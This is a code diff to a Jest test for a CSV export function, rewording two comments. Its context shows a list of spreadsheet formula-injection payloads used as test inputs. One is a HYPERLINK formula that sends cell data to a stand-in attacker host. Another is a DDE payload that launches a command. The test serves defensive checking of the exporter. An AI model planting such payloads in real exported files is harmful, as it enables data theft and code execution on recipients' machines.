@@ -5,7 +5,7 @@ import express from 'express';
 import { afterAll, beforeAll, expect, test } from '@jest/globals';
 import { sendCsv } from '../../api/http/csv.js';
 
-/** What an attacker would write into a field that ends in a spreadsheet. */
+/** What an attacker would write into a field that reaches a spreadsheet. */
 const FORMULAS = [
   '=HYPERLINK("http://evil.example?"&A1;"clique")',
   "=cmd|' /C calc'!A0",
@@ -39,7 +39,7 @@ async function fileOf(...texts: string[]): Promise<string> {
   return answer.text();
 }
 
-/** What stands in the first cell of the second line, its quotes undone. */
+/** The content of the first cell in the second line, without its quotes. */
 function firstCell(file: string): string {
   const line = file.slice(file.indexOf('\r\n') + 2);
   if (!line.startsWith('"')) return line.slice(0, line.indexOf(';'));
